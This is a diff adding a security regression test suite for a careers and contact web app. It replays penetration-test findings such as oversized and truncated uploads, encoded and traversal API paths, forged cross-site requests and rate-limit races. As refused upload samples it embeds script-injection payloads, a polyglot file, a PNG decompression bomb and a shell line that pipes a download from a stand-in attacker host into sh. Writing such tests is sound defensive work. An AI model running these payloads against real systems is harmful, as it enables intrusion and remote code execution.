@@ -1,0 +1,393 @@
+import fs from 'node:fs'
+import path from 'node:path'
+import { sql } from 'kysely'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { createDatabase, type Db } from '#app/utils/db.server.ts'
+import { pngBomb } from '#tests/fixtures/png-bomb.ts'
+import {
+	abortUpload,
+	antiForgery,
+	freshIp,
+	isHealthy,
+	multipartBody,
+	openJobId,
+	processUse,
+	send,
+	sendRaw,
+	suiteServers,
+} from './http.ts'
+
+// What a penetration test found, each as a test that failed before it was fixed.
+// Every test runs against the production build on SQLite and on PostgreSQL.
+
+const fixtures = path.resolve(import.meta.dirname, '../fixtures')
+const png = fs.readFileSync(path.join(fixtures, 'photo.png'))
+const pdf = fs.readFileSync(path.join(fixtures, 'resume.pdf'))
+const MB = 1024 * 1024
+
+function json(value: unknown) {
+	return JSON.stringify(value)
+}
+
+describe.each(suiteServers())('Hostile requests on $name', (server) => {
+	const base = server.baseUrl
+	let db: Db
+	let token: Awaited<ReturnType<typeof antiForgery>>
+	let jobId: number
+
+	beforeAll(async () => {
+		db = createDatabase({ databaseUrl: server.databaseUrl || undefined, dataDir: server.dataDir })
+		token = await antiForgery(base)
+		jobId = await openJobId(base)
+	})
+	afterAll(async () => db.destroy())
+
+	/** Headers of a client that holds a valid anti-forgery token, from an address of its own. */
+	function client(extra: Record<string, string> = {}) {
+		return { Cookie: token.Cookie, 'X-XSRF-TOKEN': token.token, 'X-Forwarded-For': freshIp(), ...extra }
+	}
+
+	async function count(table: 'enquiries' | 'applications' | 'files', where?: [string, string]) {
+		let query = db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n'))
+		if (where) query = query.where(sql.ref(where[0]), '=', where[1])
+		return Number((await query.executeTakeFirstOrThrow()).n)
+	}
+
+	function truncatedMultipart(field: string) {
+		return `--XX\r\nContent-Disposition: form-data; name="${field}"; filename="a.pdf"\r\n\r\n%PDF-x`
+	}
+
+	test('1. A multipart body cut off inside a file is answered 400 and the process lives on', async () => {
+		const headers = { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' }
+		for (const target of [`/career/${jobId}/submit`, `/career/${jobId}/apply`]) {
+			const response = await send(base, { method: 'POST', path: target, headers, body: truncatedMultipart('resume') })
+			expect(response.status, target).toBe(400)
+		}
+		const api = await send(base, {
+			method: 'POST',
+			path: `/api/Career/UploadResume?JobId=${jobId}&Name=Asha`,
+			headers,
+			body: truncatedMultipart('uploadedFiles'),
+		})
+		expect(api.status).toBe(400)
+		expect(JSON.parse(api.text).errors[0].field).toBe('uploadedFiles')
+		expect(await isHealthy(base)).toBe(true)
+	})
+
+	test('2. A chunked body past the limit is refused with 413 while it streams, and memory stays flat', async () => {
+		const before = processUse(server.pid).rss
+		function* chunks(total: number) {
+			const block = Buffer.alloc(256 * 1024, 0x41)
+			for (let sent = 0; sent < total; sent += block.length) yield block
+		}
+		const form = await send(base, {
+			method: 'POST',
+			path: '/contact-us',
+			headers: { ...client(), 'Content-Type': 'application/x-www-form-urlencoded' },
+			body: chunks(40 * MB),
+		})
+		expect(form.status).toBe(413)
+		const api = await send(base, {
+			method: 'POST',
+			path: '/api/Contact/SendEmail',
+			headers: { ...client(), 'Content-Type': 'application/json' },
+			body: chunks(40 * MB),
+		})
+		expect(api.status).toBe(413)
+		expect(JSON.parse(api.text).errors[0].message).toMatch(/too large/)
+		expect(processUse(server.pid).rss - before).toBeLessThan(40 * MB)
+		expect(await isHealthy(base)).toBe(true)
+	})
+
+	test('3. Aborted and stalled uploads leave no file, no descriptor and no memory behind', async () => {
+		const boundary = 'XX'
+		const prefix = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="p.png"\r\n\r\n`
+		const headers = { ...client(), 'Content-Type': `multipart/form-data; boundary=${boundary}` }
+		const before = processUse(server.pid)
+		const filesBefore = await count('files')
+		async function burst() {
+			await Promise.all(
+				Array.from({ length: 10 }, () =>
+					abortUpload(base, `/career/${jobId}/submit`, { headers, totalBytes: 12 * MB, sentBytes: 4 * MB, prefix }),
+				),
+			)
+		}
+		// The first bursts grow the heap to its working size; later ones must not grow it much
+		// further (ten bursts would keep 400 MB if the bytes of cut-off uploads stayed alive).
+		for (let round = 0; round < 4; round++) await burst()
+		const warm = processUse(server.pid)
+		for (let round = 0; round < 10; round++) await burst()
+		expect(processUse(server.pid).rss - warm.rss).toBeLessThan(100 * MB)
+		// Bodies that stall: given up after BODY_TIMEOUT_SECONDS (3 s here) with 408.
+		const stalled = await Promise.all(
+			Array.from({ length: 20 }, () =>
+				sendRaw(
+					base,
+					`POST /career/${jobId}/submit HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: 1000000\r\n\r\n${prefix}abc`,
+					{ waitMs: 6000 },
+				),
+			),
+		)
+		for (const answer of stalled) expect(answer).toMatch(/^HTTP\/1.1 408/)
+		await new Promise((resolve) => setTimeout(resolve, 500))
+		const after = processUse(server.pid)
+		expect(after.descriptors - before.descriptors).toBeLessThan(10)
+		expect(after.rss - before.rss).toBeLessThan(250 * MB)
+		expect(await count('files')).toBe(filesBefore)
+		expect(fs.existsSync(path.join(server.dataDir, 'uploads'))).toBe(false)
+		expect(await isHealthy(base)).toBe(true)
+	})
+
+	test('4. An encoded or otherwise disguised /api/ path still needs the anti-forgery header', async () => {
+		const enquiry = {
+			Name: 'Forged Visitor',
+			Email: `forged-${Date.now()}@example.com`,
+			Mobile: '9876543210',
+			Subject: 'Forged',
+			Message: 'Sent from another site.',
+			Service: 'Security Services',
+			Find: 'Search engine',
+		}
+		for (const target of [
+			'/%61pi/Contact/SendEmail',
+			'/API/Contact/SendEmail',
+			'/api/../api/Contact/SendEmail',
+			'/x/%2e%2e/api/Contact/SendEmail',
+			'//api/Contact/SendEmail',
+		]) {
+			const response = await send(base, {
+				method: 'POST',
+				path: target,
+				headers: { 'Content-Type': 'text/plain', Origin: 'https://evil.example', 'X-Forwarded-For': freshIp() },
+				body: json(enquiry),
+			})
+			expect(response.status, target).toBe(403)
+			// Even a web form needs the header on the API.
+			const form = await send(base, {
+				method: 'POST',
+				path: target,
+				headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Forwarded-For': freshIp() },
+				body: new URLSearchParams(enquiry).toString(),
+			})
+			expect(form.status, target).toBe(403)
+		}
+		const upload = await send(base, {
+			method: 'POST',
+			path: `/%61pi/Career/UploadResume?JobId=${jobId}&Name=Asha`,
+			headers: { 'Content-Type': 'multipart/form-data; boundary=XX', 'X-Forwarded-For': freshIp() },
+			body: multipartBody('XX', [{ name: 'uploadedFiles', filename: 'cv.pdf', value: pdf }]),
+		})
+		expect(upload.status).toBe(403)
+		expect(await count('enquiries', ['email', enquiry.Email])).toBe(0)
+	})
+
+	test('5. PUT, DELETE and PATCH reach no action: 405 with Allow, and nothing is stored', async () => {
+		const applicationsBefore = await count('applications')
+		const filesBefore = await count('files')
+		for (const method of ['PUT', 'DELETE', 'PATCH']) {
+			for (const target of ['/api/Career/Base64ToResume', '/api/Career/AddCareer', `/career/${jobId}/submit`]) {
+				const response = await send(base, {
+					method,
+					path: target,
+					headers: { ...client(), 'Content-Type': 'application/json' },
+					body: json({ base64string: pdf.toString('base64'), Name: 'Asha', JobId: jobId }),
+				})
+				expect(response.status, `${method} ${target}`).toBe(405)
+				expect(response.headers.allow).toBe('GET, HEAD, POST')
+			}
+		}
+		expect(await count('applications')).toBe(applicationsBefore)
+		expect(await count('files')).toBe(filesBefore)
+	})
+
+	test('6. A base64 file of almost 5 MB is stored, not answered 500', async () => {
+		const big = Buffer.concat([pdf.subarray(0, pdf.length - 6), Buffer.alloc(4.8 * MB, 0x20), Buffer.from('%%EOF\n')])
+		const response = await send(base, {
+			method: 'POST',
+			path: '/api/Career/Base64ToResume',
+			headers: { ...client(), 'Content-Type': 'application/json' },
+			body: json({ base64string: big.toString('base64'), Name: 'Asha Patil', JobId: jobId }),
+		})
+		expect(response.status, response.text).toBe(200)
+		expect(response.text).toMatch(/^[0-9a-f]{32}$/)
+	})
+
+	test('8. Twenty enquiries at once from one address store exactly the hourly limit (5)', async () => {
+		const ip = freshIp()
+		const email = `race-${Date.now()}@example.com`
+		const responses = await Promise.all(
+			Array.from({ length: 20 }, (_, i) =>
+				send(base, {
+					method: 'POST',
+					path: '/api/Contact/SendEmail',
+					headers: { ...client(), 'X-Forwarded-For': ip, 'Content-Type': 'application/json' },
+					body: json({
+						Name: 'Racing Visitor',
+						Email: email,
+						Mobile: '9876543210',
+						Subject: `Race ${i}`,
+						Message: 'At the same moment.',
+						Service: 'Staffing Services',
+						Find: 'Clutch',
+					}),
+				}),
+			),
+		)
+		expect(responses.filter((r) => r.status === 200)).toHaveLength(5)
+		expect(responses.filter((r) => r.status === 429)).toHaveLength(15)
+		expect(await count('enquiries', ['email', email])).toBe(5)
+	})
+
+	test('9. "Has this address applied?" answers for the job asked about only, and is limited per address', async () => {
+		const ip = freshIp()
+		const statuses: number[] = []
+		for (let i = 0; i < 22; i++) {
+			const response = await send(base, {
+				path: `/api/Career/GetAllEmailandJobId?JobId=${jobId}&Email=probe${i}@example.com`,
+				headers: { 'X-Forwarded-For': ip },
+			})
+			statuses.push(response.status)
+		}
+		expect(statuses.slice(0, 20).every((s) => s === 200)).toBe(true)
+		expect(statuses.slice(20)).toEqual([429, 429])
+	})
+
+	test('10. Script files, polyglots and a 900-megapixel picture are refused as applicants\u2019 files', async () => {
+		async function base64(call: string, bytes: Buffer) {
+			return send(base, {
+				method: 'POST',
+				path: `/api/Career/${call}`,
+				headers: { ...client(), 'Content-Type': 'application/json' },
+				body: json({ base64string: bytes.toString('base64'), Name: 'Asha Patil', JobId: jobId }),
+			})
+		}
+		const refused = [
+			['Base64ToResume', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
+			['Base64ToAadhar', Buffer.from('<!doctype html><script>alert(1)</script>')],
+			['Base64ToResume', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
+			['Base64ToResume', Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>')],
+			['Base64ToAadhar', pngBomb(30_000, 30_000)],
+		] as const
+		for (const [call, bytes] of refused) {
+			const response = await base64(call, bytes)
+			expect(response.status, `${call}: ${bytes.subarray(0, 20).toString()}`).toBe(400)
+		}
+		// A PNG with a web page after it is stored as the picture alone.
+		const polyglot = await base64('Base64ToImage', Buffer.concat([png, Buffer.from('<html><script>x</script>')]))
+		expect(polyglot.status).toBe(200)
+		const stored = await db
+			.selectFrom('files')
+			.select('bytes')
+			.where('id', '=', polyglot.text)
+			.executeTakeFirstOrThrow()
+		expect(Buffer.from(stored.bytes!).includes('<script>')).toBe(false)
+	})
+
+	test('11. A NUL in a text field is a 400 with that field\u2019s message, and nothing is stored', async () => {
+		const email = `nul-${Date.now()}@example.com`
+		const response = await send(base, {
+			method: 'POST',
+			path: '/api/Contact/SendEmail',
+			headers: { ...client(), 'Content-Type': 'application/json' },
+			body: json({
+				Name: 'Asha',
+				Email: email,
+				Mobile: '9876543210',
+				Subject: 'Hello\u0000',
+				Message: 'Hi\u0000there',
+				Service: 'Staffing Services',
+				Find: 'Clutch',
+			}),
+		})
+		expect(response.status).toBe(400)
+		expect(
+			JSON.parse(response.text)
+				.errors.map((e: { field: string }) => e.field)
+				.sort(),
+		).toEqual(['Message', 'Subject'])
+		expect(await count('enquiries', ['email', email])).toBe(0)
+	})
+
+	test('12. TRACE, and posts to the contact page in the wrong shape, get 4xx answers, never 500', async () => {
+		expect((await send(base, { method: 'TRACE', path: '/' })).status).toBe(405)
+		expect((await send(base, { method: 'TRACE', path: '/api/Job/GetAllJobs' })).status).toBe(405)
+		const options = await send(base, { method: 'OPTIONS', path: '/contact-us' })
+		expect(options.status).toBe(204)
+		expect(options.headers.allow).toBe('GET, HEAD, POST')
+		const shapes: Array<[string, string, number]> = [
+			['application/json', json({ Name: 'x' }), 415],
+			['text/plain', 'hello', 415],
+			['application/xml', '<x/>', 415],
+			['multipart/form-data; boundary=XX', '--XX\r\nbroken', 400],
+			['multipart/form-data', 'no boundary', 400],
+			['application/x-www-form-urlencoded', '%%%=%%%&&&', 403],
+		]
+		for (const [type, body, status] of shapes) {
+			const response = await send(base, {
+				method: 'POST',
+				path: '/contact-us',
+				headers: client({ 'Content-Type': type }),
+				body,
+			})
+			expect(response.status, type).toBe(status)
+		}
+	})
+
+	test('13. JSON bodies of 64 to 256 KB are answered (400 or 413), never dropped', async () => {
+		for (const size of [64 * 1024, 100 * 1024, 130 * 1024, 256 * 1024]) {
+			for (const call of ['AddCareer', 'SendApplyEmailToAdmin']) {
+				const response = await send(base, {
+					method: 'POST',
+					path: `/api/Career/${call}`,
+					headers: { ...client(), 'Content-Type': 'application/json' },
+					body: json({ JobId: jobId, Name: 'A'.repeat(size) }),
+				})
+				expect([400, 413], `${call} ${size}`).toContain(response.status)
+				expect(JSON.parse(response.text).errors.length).toBeGreaterThan(0)
+			}
+		}
+	})
+
+	test('14. A file of exactly 5 MB is accepted on the multipart paths', async () => {
+		const exact = Buffer.concat([
+			pdf.subarray(0, pdf.length - 6),
+			Buffer.alloc(5 * MB - pdf.length, 0x20),
+			Buffer.from('%%EOF\n'),
+		])
+		expect(exact.length).toBe(5 * MB)
+		const response = await send(base, {
+			method: 'POST',
+			path: `/api/Career/UploadResume?JobId=${jobId}&Name=Asha`,
+			headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' },
+			body: multipartBody('XX', [{ name: 'uploadedFiles', filename: 'cv.pdf', value: exact }]),
+		})
+		expect(response.status, response.text).toBe(200)
+		const oneMore = await send(base, {
+			method: 'POST',
+			path: `/api/Career/UploadResume?JobId=${jobId}&Name=Asha`,
+			headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' },
+			body: multipartBody('XX', [
+				{ name: 'uploadedFiles', filename: 'cv.pdf', value: Buffer.concat([exact, Buffer.from(' ')]) },
+			]),
+		})
+		expect(oneMore.status).toBe(400)
+		expect(JSON.parse(oneMore.text).errors[0].message).toContain('larger than 5 MB')
+	})
+
+	test('17. Public pictures and documents never carry a cookie', async () => {
+		const home = (await send(base, { path: '/' })).text
+		const picture = /<img\b[^>]*\bsrc="(\/images\/[^"]+)"/.exec(home)?.[1]?.replaceAll('&amp;', '&')
+		expect(picture).toBeTruthy()
+		const documents = JSON.parse((await send(base, { path: '/api/Advertise/GetAllPdf' })).text) as Array<{
+			Pdf: string
+		}>
+		for (const target of [picture!, `/Pdf/${documents[0]!.Pdf}`, '/sitemap.xml', '/robots.txt']) {
+			const response = await send(base, { path: target })
+			expect(response.status, target).toBe(200)
+			expect(response.headers['cache-control'], target).toMatch(/public/)
+			expect(response.headers['set-cookie'], target).toBeUndefined()
+		}
+		// A page still gives a new visitor the anti-forgery cookie.
+		expect(String((await send(base, { path: '/contact-us' })).headers['set-cookie'])).toMatch(/XSRF-TOKEN=/)
+	})
+})
